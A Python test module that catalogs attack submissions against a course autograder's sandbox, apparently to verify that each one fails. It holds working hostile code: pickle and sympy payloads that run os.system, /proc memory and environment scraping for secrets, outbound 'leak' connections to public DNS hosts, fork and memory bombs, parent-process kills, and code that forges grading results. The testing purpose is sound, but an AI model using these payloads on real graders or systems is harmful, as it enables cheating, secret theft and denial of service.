"""The attack submissions: each is a whole student file (and optionally an answers file).

Most start from the reference solution and add the attack where it runs: at import,
inside ``param_count`` (after its argument checks, so the "rejects bad arguments"
checks are untouched), or inside ``build_mlp`` only for build_mlp_small's call
``build_mlp(6, 8, 2)`` (so one check times out, not five). Forging attacks start
from a *wrong* ``param_count`` (it forgets the output bias) and try to pass anyway.

``attacked`` names the checks that must score 0; every other check must end exactly
as it does for the reference solution at the same level.
"""

from __future__ import annotations

from dataclasses import dataclass

from support import solution_text

BOTH = ("namespaces", "process")
NAMESPACES_ONLY = ("namespaces",)
NO_LANDLOCK = "at the process level without Landlock, readable files stay readable (security.md)"

PARAM_VALUES = frozenset({"param_count_small", "param_count_large", "param_count_numpy_integers"})
# Attacks whose param_count returns no int at all (or ends the process) also fail the check
# that the count is a Python int; a wrong count that is an int passes it.
PARAM_CALLS = PARAM_VALUES | {"param_count_returns_python_int"}
BUILD_SMALL = frozenset({"build_mlp_small", "build_mlp_hidden_architectures"})
# Attacks on every build_mlp call (not only build_mlp(6, 8, 2)) also hit the numpy-integer one.
BUILD_ALL = BUILD_SMALL | {"build_mlp_accepts_numpy_integers"}
EXPR = frozenset({"param_count_expr_matches_small_cases", "param_count_expr_equals_reference"})
# The dropout checks that a fixed, evenly spread "random" sequence must fail (its keep rate
# and mean are right, so the rate and mean checks rightly pass).
RANDOMNESS_CHECKS = frozenset(
    {
        "drops_are_independent_numpy",
        "drops_are_independent_torch",
        "uses_the_generator_numpy",
        "uses_the_generator_torch",
        "dropout_module_train_eval",
        "network_with_dropout_trains",
        "statistics_on_other_shapes_and_rates_numpy",
        "statistics_on_other_shapes_and_rates_torch",
        "module_extreme_rates",
    }
)
CODE = frozenset(
    {
        *PARAM_CALLS,
        *BUILD_ALL,
        *EXPR,
        "param_count_rejects_bad_arguments",
        "build_mlp_rejects_bad_arguments",
        "build_mlp_rejects_non_integers",
    }
)


@dataclass(frozen=True)
class Attack:
    """One attack submission and what it must (not) achieve."""

    name: str
    code: str
    attacked: frozenset[str]
    message: str = ""  # must appear in the first attacked check's message
    exercise: str = "ex4_5"
    answers: str | None = None  # None: the reference answers
    levels: tuple[str, ...] = BOTH
    not_covered: str = ""  # why a level is left out
    must_not_exist: tuple[str, ...] = ()  # host paths the attack tries to create
    needs_landlock: bool = False  # contained at the process level only where Landlock is
    seconds: float = 60.0  # the whole grade finishes within


def _indent(body: str, spaces: int) -> str:
    return "".join(f"{' ' * spaces}{line}\n" if line else "\n" for line in body.splitlines())


def _replace(source: str, old: str, new: str) -> str:
    assert old in source, old
    return source.replace(old, new, 1)


SOLUTION = solution_text("ex4_5")
WRONG = _replace(SOLUTION, "last = width + 1", "last = width")  # forgets the output bias
_PARAM_AFTER_CHECKS = "    width = N // L\n    first = M0 * width + width\n"
_BUILD_AFTER_CHECKS = "    width = N // L\n    layers = []\n"


def in_param_count(body: str, source: str = WRONG) -> str:
    """``source`` whose param_count runs ``body`` after validating its arguments."""
    return _replace(source, _PARAM_AFTER_CHECKS, _indent(body, 4) + _PARAM_AFTER_CHECKS)


def in_build_mlp_small(body: str, source: str = SOLUTION) -> str:
    """``source`` whose build_mlp runs ``body`` when called as build_mlp(6, 8, 2)."""
    guarded = "if (M0, N, L) == (6, 8, 2):\n" + _indent(body, 4)
    return _replace(source, _BUILD_AFTER_CHECKS, _indent(guarded, 4) + _BUILD_AFTER_CHECKS)


def at_import(prelude: str, source: str = SOLUTION) -> str:
    return prelude + "\n" + source


def returning_model(model_code: str) -> str:
    """The solution whose build_mlp returns ``model`` built by ``model_code`` from ``net``."""
    old = "    layers.append(nn.Linear(width, 1))\n    return nn.Sequential(*layers)\n"
    new = (
        "    layers.append(nn.Linear(width, 1))\n    net = nn.Sequential(*layers)\n"
        + _indent(model_code, 4)
        + "    return model\n"
    )
    return _replace(SOLUTION, old, new)


FORGE_FRAMES = """
import json, os, struct
def frame(header):
    data = json.dumps(header).encode()
    return struct.pack(">Q", len(data)) + data + struct.pack(">Q", 0)
forged = frame({"ok": True, "value": 21}) + frame({"ready": True, "status": "exit code 0"})
forged += json.dumps({"op": "reap", "pid": 1}).encode() + b'{"pid": 1}\\n'
for fd in range(0, 1024):
    try:
        os.write(fd, forged)
    except OSError:
        pass
"""

RESULTS_FILES = """
import json, os, pathlib
import grader
fake = json.dumps({"score": 23, "max_score": 23, "tests": [], "output": "all passed"})
package = pathlib.Path(grader.__file__).resolve().parent
folders = [pathlib.Path.cwd(), pathlib.Path.home(), pathlib.Path(__file__).parent, package,
           package.parent, pathlib.Path("/tmp"), pathlib.Path("/var/tmp"),
           pathlib.Path("/dev/shm"), pathlib.Path("/autograder/results")]
for folder in folders:
    for name in ("attack-results.json", "results/results.json", "gradebook.sqlite"):
        try:
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            (folder / name).write_text(fake)
        except OSError:
            pass
for target in (package / "judge" / "compare.py", package / "runner.py",
               package.parent / "hidden" / "ex4_5.py", package.parent / "solutions" / "ex4_5.py"):
    try:
        with open(target, "a") as f:
            f.write("\\nPWNED = True\\n")
    except OSError:
        pass
"""

PRINT_FAKE = """
import atexit, json, sys
fake = json.dumps({"score": 23, "max_score": 23, "status": "passed",
                   "tests": [{"name": "param_count_small", "score": 2, "status": "passed"}]})
print(fake)
print("PASS param_count_small 2/2\\nScore: 23/23")
sys.stderr.write(fake + "\\n")
sys.__stdout__.write(fake + "\\n")
atexit.register(print, fake)
"""

PICKLE_BYTES = """
import os, pickle
class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/attack-pickle-ran",))
return pickle.dumps(Payload())
"""

NPY_PICKLE_ON_SOCKET = """
import io, os, sys
import numpy
from grader.sandbox import wire
class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/attack-npy-pickle-ran",))
frame = sys._getframe()
while frame is not None and "sock" not in frame.f_locals:
    frame = frame.f_back
if frame is not None:
    buf = io.BytesIO()
    numpy.save(buf, numpy.array([Payload()], dtype=object), allow_pickle=True)
    request = frame.f_locals["header"]
    reply = {"ok": True, "value": {"$ndarray": 0}, "id": request.get("id")}
    wire.send_message(frame.f_locals["sock"], reply, [buf.getvalue()])
"""

PATCH_GRADER = """
import grader.sandbox.child as child, grader.sandbox.wire as wire
def always_21(header, blobs, module, spec):
    return {"ok": True, "value": 21}, []
child._answer = always_21
wire.encode = lambda value: (21, [])
"""

PATCH_LIBRARIES = """
import math, unittest, numpy, torch
numpy.array_equal = numpy.allclose = numpy.isclose = lambda *a, **k: True
try:  # a lazy submodule: at the process level it may not be importable (security.md)
    import numpy.testing
    numpy.testing.assert_allclose = numpy.testing.assert_array_equal = lambda *a, **k: None
except ImportError:
    pass
torch.equal = torch.allclose = lambda *a, **k: True
torch.Tensor.__eq__ = lambda *a, **k: True
math.isclose = lambda *a, **k: True
for name in dir(unittest.TestCase):
    if name.startswith("assert"):
        setattr(unittest.TestCase, name, lambda *a, **k: None)
"""

PATCH_BUILTIN_TYPE = """
import builtins
class Liar(int):
    def __eq__(self, other):
        return True
    __hash__ = int.__hash__
original = builtins.type
def lying_type(obj, *rest):
    if not rest and isinstance(obj, Liar):
        builtins.type = original  # lie once, to the encoder of this reply
        return int
    return original(obj, *rest)
builtins.type = lying_type
return Liar(first + middle + last)
"""

GC_AND_STACK = """
import gc, sys
found = None
for obj in gc.get_objects():
    if isinstance(obj, dict) and (M0, N, L) in obj:
        found = obj[(M0, N, L)]
frame = sys._getframe()
while frame is not None and found is None:
    for key in ("expected", "reference", "want"):
        if key in frame.f_locals:
            found = frame.f_locals[key]
    frame = frame.f_back
return found if found is not None else -1
"""

READ_COURSE_FILES = """
import importlib.util, os, pathlib
import grader
_reference = None
_candidates = [pathlib.Path(grader.__file__).resolve().parents[1], pathlib.Path("/work/main"),
               pathlib.Path(os.environ.get("GRADER_COURSE", "/nonexistent"))]
for _root, _dirs, _files in os.walk("/"):
    if _root.count("/") > 4 or _root.startswith(("/proc", "/sys", "/dev", "/usr")):
        _dirs[:] = []
    elif _root.endswith("/solutions") and "ex4_5.py" in _files:
        _candidates.append(pathlib.Path(_root).parent)
for _root in _candidates:
    for _name in ("solutions/ex4_5.py", "hidden/ex4_5.py"):
        _path = _root / _name
        try:
            _text = _path.read_text()
        except OSError:
            continue
        if _name.startswith("solutions"):
            _spec = importlib.util.spec_from_file_location("leaked", _path)
            _reference = importlib.util.module_from_spec(_spec)
            _spec.loader.exec_module(_reference)

def _leak(name):
    def call(*args):
        if _reference is None:
            raise RuntimeError("nothing leaked")
        return getattr(_reference, name)(*args)
    return call

param_count = _leak("param_count")
param_count_expr = _leak("param_count_expr")
build_mlp = _leak("build_mlp")
"""

READ_JUDGE_MEMORY = """
import os, re
found = []
try:
    pids = os.listdir("/proc")
except OSError:  # /proc may not be listed (Landlock): probe every pid instead
    pids = [str(p) for p in range(1, 1 << 16)]
for pid in pids:
    if not pid.isdigit() or int(pid) == os.getpid():
        continue
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as mem:
            for line in maps:
                start, end = (int(x, 16) for x in line.split()[0].split("-"))
                if "r" not in line.split()[1] or end - start > 1 << 28:
                    continue
                try:
                    mem.seek(start)
                    chunk = mem.read(end - start)
                except (OSError, OverflowError, ValueError):
                    continue
                found += [m.decode() for m in re.findall(rb"JUDGE-SECRET-[0-9a-f]{24}", chunk)]
    except OSError:
        pass
print("found in memory:", found)
"""

READ_ENVIRON = """
import os, sys
seen = [repr(dict(os.environ)), repr(sys.argv)]
try:
    pids = os.listdir("/proc")
except OSError:  # /proc may not be listed (Landlock): probe every pid instead
    pids = [str(p) for p in range(1, 1 << 16)]
for pid in pids:
    for part in ("environ", "cmdline"):
        try:
            with open(f"/proc/{pid}/{part}", "rb") as f:
                seen.append(f.read().decode(errors="replace"))
        except OSError:
            pass
print("\\n".join(seen))
"""

NETWORK = """
import os, socket
reached = []
ports = {__PORT__}
for table in ("/proc/net/tcp", "/proc/net/tcp6"):
    try:
        for line in open(table).read().splitlines()[1:]:
            if line.split()[3] == "0A":
                ports.add(int(line.split()[1].rsplit(":", 1)[1], 16))
    except OSError:
        pass
targets = [("1.1.1.1", 53), ("8.8.8.8", 53)] + [("127.0.0.1", p) for p in sorted(ports)[:50]]
for host, port in targets:
    try:
        socket.create_connection((host, port), timeout=0.5).sendall(b"leak")
        reached.append((host, port))
    except OSError:
        pass
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"leak", ("1.1.1.1", 53))
    reached.append("udp")
except OSError:
    pass
print("reached:", reached)
"""

FILL_TMPFS = """
import os
chunk = b"x" * (16 * 1024 * 1024)
total = 0
for folder in ("/dev/shm", "/tmp", os.getcwd()):
    for i in range(64):
        if total >= 300 * 1024 * 1024:
            break
        try:
            with open(os.path.join(folder, f"attack-fill-{i}"), "wb") as f:
                f.write(chunk)
            total += len(chunk)
        except OSError:
            break
while True:
    pass
"""

SYMLINKS = """
import os, pathlib
import grader
package = pathlib.Path(grader.__file__).resolve().parent
for folder in (os.getcwd(), "/tmp", "/dev/shm", "/var/tmp"):
    for i, target in enumerate((package, package.parent, "/", package.parent / "solutions")):
        try:
            os.symlink(target, os.path.join(folder, f"attack-link-{i}"))
            os.makedirs(os.path.join(folder, f"attack-dir-{i}"), exist_ok=True)
            os.symlink(target, os.path.join(folder, f"attack-dir-{i}", "inner"))
        except OSError:
            pass
raise RuntimeError("left symbolic links for the clean-up to follow")
"""

RNG_TAMPERING = '''
"""Dropout whose masks come from patched random generators: a fixed, evenly spread sequence."""
import numpy as np
import torch
from torch import nn

def _even(shape):
    shape = tuple(shape)
    return (np.arange(int(np.prod(shape))) * 0.6180339887498949 % 1.0).reshape(shape)

class Even:
    """Replaces numpy's generators: the same evenly spread numbers for every seed."""
    def __init__(self, *args, **kwargs):
        pass
    def random(self, size=None, *args, **kwargs):
        return _even(size if isinstance(size, tuple) else (size or 1,))

def _rand(*size, generator=None, dtype=None, device=None, **kwargs):
    shape = size[0] if len(size) == 1 and not isinstance(size[0], int) else size
    return torch.as_tensor(_even(shape), dtype=dtype or torch.float32, device=device)

np.random.default_rng = Even
torch.rand = _rand

def _checked(p):
    p = float(p)
    if not 0.0 <= p <= 1.0:
        raise ValueError("p must be in [0, 1]")
    return p

def dropout(x, p, training=True, generator=None):
    p = _checked(p)
    if not training or p == 0.0:
        return x
    keep = 1.0 - p
    if isinstance(x, torch.Tensor):
        mask = torch.rand(x.shape, device=x.device, generator=generator) < keep
    else:
        mask = (generator or np.random.default_rng()).random(np.shape(x)) < keep
    return x * mask if p == 1.0 else x * mask / keep

class Dropout(nn.Module):
    def __init__(self, p=0.5):
        super().__init__()
        self.p = _checked(p)

    def forward(self, x):
        return dropout(x, self.p, self.training)
'''

SYMPY_CODE_SYMBOL = """
import sympy
return sympy.Symbol("__import__('os').system('touch /tmp/attack-sympy-ran')") + sympy.Symbol("N")
"""

ANSWERS_CODE = """
P_of_L = "__import__('os').system('touch /tmp/attack-answers-ran')"
dP_dL = "(lambda: 1)() + M0.__class__.__mro__[1].__subclasses__()"
L_star = "exec('import os; os.system(\\\\'touch /tmp/attack-answers-ran\\\\')')"
monotonic = false
"""

ANSWERS_HANGING = """
P_of_L = "exp(exp(exp(exp(exp(M0 + N + L)))))"
dP_dL = "-(M0 + 1)*N/L^2 + (2 - L)*N^2/L^3"
L_star = "2*N/(M0 + N + 1)"
monotonic = false
"""

# ---- feeding the judge's side of the result channel directly (the request socket is the
# caller's local ``sock``; ``reply`` writes raw bytes on it, ``frame`` builds a message)
RAW_CHANNEL = """
import io, json, struct, sys, time
frame_ = sys._getframe()
while frame_ is not None and "sock" not in frame_.f_locals:
    frame_ = frame_.f_back
sock, request_id = frame_.f_locals["sock"], frame_.f_locals["header"].get("id")
def length(n):
    return struct.pack(">Q", n)
def frame(header, blobs=(), count=None):
    data = json.dumps(header).encode()
    out = length(len(data)) + data + length(len(blobs) if count is None else count)
    return out + b"".join(length(len(b)) + b for b in blobs)
def npy(descr, shape, data=b""):
    text = repr({"descr": descr, "fortran_order": False, "shape": shape}).encode()
    text += b" " * (-(len(text) + 11) % 64) + b"\\n"
    return b"\\x93NUMPY\\x01\\x00" + struct.pack("<H", len(text)) + text + data
def reply(raw):
    sock.sendall(raw)
    time.sleep(600)
"""


def on_channel(body: str, source: str = SOLUTION) -> str:
    """``source`` whose param_count writes ``body``'s bytes on the result channel itself."""
    return in_param_count(RAW_CHANNEL + body, source)


DRIP = """
sock.sendall(length(1 << 20))
while True:
    sock.send(b" ")
    time.sleep(0.2)
"""
HUGE_NPY = 'reply(frame({"ok": True, "value": {"$ndarray": 0}, "id": request_id}, '
HUGE_NPY += '[npy("<f8", (10**6, 10**6))]))'
ODD_SCALARS = 'reply(frame({"ok": True, "id": request_id, "value": '
ODD_SCALARS += '[{"$npscalar": "<i8", "value": "nan"}, {"$npscalar": "(3,)f8", "value": 1.0}]}))'
LYING_TENSOR = 'reply(frame({"ok": True, "id": request_id, "value": {"$tensor": 0, '
LYING_TENSOR += '"dtype": "torch.float32", "device": "cpu", "requires_grad": False, '
LYING_TENSOR += '"kind": "Tensor"}}, [npy("<c16", (2,), bytes(32))]))'
MANY_HUGE_FRAMES = 'reply(frame({"ok": True, "value": 21}, count=4096) + length(256 << 20))'
FRAME_OF_MANY_VALUES = 'reply(frame({"ok": True, "id": request_id, "value": [0] * 300000}))'
MANY_BIG_BLOBS = """
blob = npy("<f8", (6 << 20,), bytes(48 << 20))
reply(frame({"ok": True, "id": request_id, "value": [{"$ndarray": i} for i in range(3)]},
            [blob, blob, blob]))
"""

CRASH_IN_EVERY_CALL = """
import os as _os
def _crash(*args, **kwargs):
    _os._exit(3)
param_count = param_count_expr = build_mlp = _crash
"""


def attacks() -> list[Attack]:
    """Every attack of the catalog (see the module docstring)."""
    return [
        # ---- forging a result
        Attack("printed_fake_results", in_param_count(PRINT_FAKE), PARAM_VALUES, "expected 21"),
        Attack(
            "results_files_everywhere",
            in_param_count(RESULTS_FILES),
            PARAM_VALUES,
            "expected 21",
            must_not_exist=(
                "/tmp/attack-results.json",
                "/var/tmp/attack-results.json",
                "/dev/shm/attack-results.json",
                "/autograder",
            ),
        ),
        Attack(
            "forged_frames_on_every_fd",
            in_param_count(FORGE_FRAMES),
            PARAM_CALLS,
            "malformed",
        ),
        Attack(
            "pickle_bytes_returned",
            in_param_count(PICKLE_BYTES, SOLUTION),
            PARAM_CALLS,
            "bytes",
            must_not_exist=("/tmp/attack-pickle-ran",),
        ),
        Attack(
            "object_array_returned", in_param_count(OBJECT_ARRAY, SOLUTION), PARAM_CALLS, "object"
        ),
        Attack(
            "pickled_npy_forged_on_own_socket",
            in_param_count(NPY_PICKLE_ON_SOCKET, SOLUTION),
            PARAM_CALLS,
            "malformed",
            must_not_exist=("/tmp/attack-npy-pickle-ran",),
        ),
        # Every answer is the Python int 21: the check that the count is an int rightly passes.
        Attack(
            "grader_patched_in_sandbox",
            at_import(PATCH_GRADER, WRONG),
            CODE - {"param_count_returns_python_int"},
        ),
        Attack(
            "numpy_torch_unittest_patched",
            at_import(PATCH_LIBRARIES, WRONG),
            PARAM_VALUES,
            "expected 21",
        ),
        Attack(
            "builtin_type_patched_for_a_lying_int",
            in_param_count(PATCH_BUILTIN_TYPE.replace("first + middle + last", "20"), SOLUTION),
            PARAM_VALUES,
            "expected 21",
        ),
        # ---- lying values
        Attack(
            "lying_eq_instead_of_a_module",
            returning_model(
                "class Liar:\n    def __eq__(self, other):\n        return True\nmodel = Liar()"
            ),
            BUILD_ALL,
            "a torch.nn.Module",
        ),
        Attack(
            "tensor_subclass_output",
            returning_model(TENSOR_SUBCLASS_MODEL),
            BUILD_ALL,
            "subclass",
        ),
        Attack("inf_count", in_param_count("return float('inf')", SOLUTION), PARAM_CALLS, "inf"),
        Attack(
            "nan_forward",
            returning_model(FORWARD_MODEL.format(out="out * float('nan')")),
            BUILD_ALL,
            "nan",
        ),
        Attack(
            "broadcastable_output_shape_5",
            returning_model(FORWARD_MODEL.format(out="out.squeeze(-1)")),
            BUILD_ALL,
            "shape",
        ),
        Attack(
            "broadcastable_output_shape_1x1",
            returning_model(FORWARD_MODEL.format(out="out[:1]")),
            BUILD_ALL,
            "shape",
        ),
        Attack(
            "right_shapes_fake_forward",
            returning_model(FORWARD_MODEL.format(out="torch.zeros_like(out)")),
            BUILD_ALL,
            "output",
        ),
        Attack("probe_patched_to_report_fake_facts", at_import(FAKE_PROBE), BUILD_ALL, "output"),
        Attack(
            "gc_and_stack_inspection",
            in_param_count(GC_AND_STACK, SOLUTION),
            PARAM_VALUES,
            "expected 21",
        ),
        # ---- reading what must stay hidden
        Attack(
            "read_solutions_and_hidden_checks",
            READ_COURSE_FILES,
            CODE,
            "nothing leaked",
            needs_landlock=True,
            not_covered=NO_LANDLOCK,
        ),
        Attack("read_judge_memory", in_param_count(READ_JUDGE_MEMORY), PARAM_VALUES, "expected 21"),
        Attack(
            "read_judge_environ_and_argv", in_param_count(READ_ENVIRON), PARAM_VALUES, "expected 21"
        ),
        Attack("network_access", in_param_count(NETWORK), PARAM_VALUES, "expected 21"),
        # ---- ending the process
        Attack(
            "segfault_in_a_call",
            in_build_mlp_small("import ctypes\nctypes.string_at(0)"),
            BUILD_SMALL,
            "SIGSEGV",
        ),
        Attack(
            "segfault_at_import", at_import("import ctypes\nctypes.string_at(0)"), CODE, "SIGSEGV"
        ),
        Attack("abort_at_import", at_import("import os\nos.abort()"), CODE, "SIGABRT"),
        Attack(
            "sigkill_self_in_a_call",
            in_build_mlp_small("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"),
            BUILD_SMALL,
            "SIGKILL",
        ),
        Attack(
            "keyboard_interrupt_in_a_call",
            in_build_mlp_small("raise KeyboardInterrupt"),
            BUILD_SMALL,
            "KeyboardInterrupt",
        ),
        Attack(
            "channel_closed_then_correct_value",
            in_param_count("import os\nos.closerange(3, 1024)", SOLUTION),
            PARAM_CALLS,
            "ended the sandbox process",
        ),
        Attack("kill_the_template_and_everyone", in_param_count(KILL_TEMPLATE), PARAM_VALUES),
        # ---- exhausting resources
        Attack(
            "c_level_infinite_loop",
            in_build_mlp_small(C_LOOP),
            BUILD_SMALL,
            "did not finish within",
        ),
        Attack(
            "sleep_at_import",
            at_import("import time\ntime.sleep(120)"),
            CODE,
            "did not finish within",
        ),
        Attack("memory_bomb_in_a_call", in_build_mlp_small(MEMORY_BOMB), BUILD_SMALL),
        Attack(
            "memory_bomb_at_import", at_import("hog = bytearray(16 * 1024**3)"), CODE, "MemoryError"
        ),
        Attack("fork_bomb", in_build_mlp_small(FORK_BOMB), BUILD_SMALL),
        Attack("background_process_outliving_the_timeout", in_build_mlp_small(DAEMON), BUILD_SMALL),
        Attack(
            "stdout_flood_forever",
            in_build_mlp_small(FLOOD_FOREVER),
            BUILD_SMALL,
            "did not finish within",
        ),
        Attack("stdout_flood_at_import", at_import(FLOOD_AT_IMPORT), frozenset()),
        Attack("tmpfs_fill", in_build_mlp_small(FILL_TMPFS), BUILD_SMALL, "did not finish within"),
        Attack(
            "symlinks_for_the_clean_up_to_follow",
            in_build_mlp_small(SYMLINKS),
            BUILD_SMALL,
            "left symbolic links",
        ),
        # ---- feeding the judge (each fails the checks that called, within the call's limit)
        Attack("drip_bytes_on_the_result_channel", on_channel(DRIP), PARAM_CALLS, "within"),
        Attack("npy_header_with_a_huge_shape", on_channel(HUGE_NPY), PARAM_CALLS, "claims"),
        Attack("odd_numpy_scalars", on_channel(ODD_SCALARS), PARAM_CALLS, "numpy"),
        Attack("tensor_whose_dtype_lies", on_channel(LYING_TENSOR), PARAM_CALLS, "reports dtype"),
        Attack("frames_of_4096_huge_blobs", on_channel(MANY_HUGE_FRAMES), PARAM_CALLS, "id"),
        Attack(
            "a_header_of_300000_values", on_channel(FRAME_OF_MANY_VALUES), PARAM_CALLS, "values"
        ),
        Attack("blobs_past_the_message_cap", on_channel(MANY_BIG_BLOBS), PARAM_CALLS, "bytes"),
        Attack(
            "slow_import_then_a_crash_in_every_call",
            at_import("import time\ntime.sleep(4)", SOLUTION + CRASH_IN_EVERY_CALL),
            CODE,
            "ended",
            seconds=30,  # imports until 10 s are spent (3 here), then fails at once
        ),
        # ---- symbolic answers and statistics
        Attack(
            "sympy_symbol_holding_code",
            _replace(
                SOLUTION,
                '    M0, N, L = sympy.symbols("M0 N L", positive=True, integer=True)\n',
                _indent(SYMPY_CODE_SYMBOL, 4) + "    M0, N, L = "
                'sympy.symbols("M0 N L", positive=True, integer=True)\n',
            ),
            EXPR,
            must_not_exist=("/tmp/attack-sympy-ran",),
        ),
        Attack(
            "answers_that_run_code",
            SOLUTION,
            frozenset({"P_of_L", "dP_dL", "L_star"}),
            "not allowed",
            answers=ANSWERS_CODE,
            must_not_exist=("/tmp/attack-answers-ran",),
        ),
        Attack(
            "answers_that_hang_the_symbolic_judge",
            SOLUTION,
            frozenset({"P_of_L"}),
            answers=ANSWERS_HANGING,
        ),
        Attack(
            "rng_tampering_for_the_statistical_checks",
            RNG_TAMPERING,
            RANDOMNESS_CHECKS,
            exercise="dropout",
        ),
    ]


TENSOR_SUBCLASS_MODEL = """
class Lying(torch.Tensor):
    def __eq__(self, other):
        return True
class Wrapped(nn.Module):
    def __init__(self, inner):
        super().__init__()
        self.inner = inner
    def forward(self, x):
        return self.inner(x).as_subclass(Lying)
model = Wrapped(net)
"""

FORWARD_MODEL = """
class Faked(nn.Module):
    def __init__(self, inner):
        super().__init__()
        self.inner = inner
    def forward(self, x):
        out = self.inner(x)
        return {out}
model = Faked(net)
"""

# Right shapes, and the model's output with its own weights instead of the grader's.
FAKE_PROBE = """
import numpy, torch
import grader.course.ex4_5.probes as probes
def fake_facts(student, M0, N, L, weights, inputs):
    net = student.build_mlp(M0, N, L)
    linears = [m for m in net.modules() if isinstance(m, torch.nn.Linear)]
    with torch.no_grad():
        output = net(inputs)
    return {"is_module": True, "type": "Sequential",
            "parameter_shapes": [list(p.shape) for p in net.parameters()],
            "layers": [[list(l.weight.shape), list(l.bias.shape)] for l in linears],
            "output": output}
probes.mlp_facts = fake_facts
"""

OBJECT_ARRAY = """
import numpy
return numpy.array([(M0 * (N // L) + N // L) + (L - 1) * ((N // L) ** 2 + N // L) + N // L + 1],
                   dtype=object)
"""

KILL_TEMPLATE = """
import os, signal
for target in (os.getppid(), -1, -os.getpgid(os.getppid())):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
"""

C_LOOP = """
import numpy
a = numpy.random.default_rng(0).random((2000, 2000))
while True:
    numpy.linalg.eigvals(a)
"""

MEMORY_BOMB = """
hog = []
while True:
    hog.append(bytearray(64 * 1024 * 1024))
"""

FORK_BOMB = """
import os
while True:
    os.fork()
"""

DAEMON = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            time.sleep(0.05)
    os._exit(0)
time.sleep(120)
"""

FLOOD_FOREVER = """
import os
chunk = b"flood " * 10000
while True:
    os.write(1, chunk)
    os.write(2, chunk)
"""

FLOOD_AT_IMPORT = """
import os
for _ in range(64):
    os.write(1, b"y" * (1 << 20))
print("z" * 10_000_000)
"""
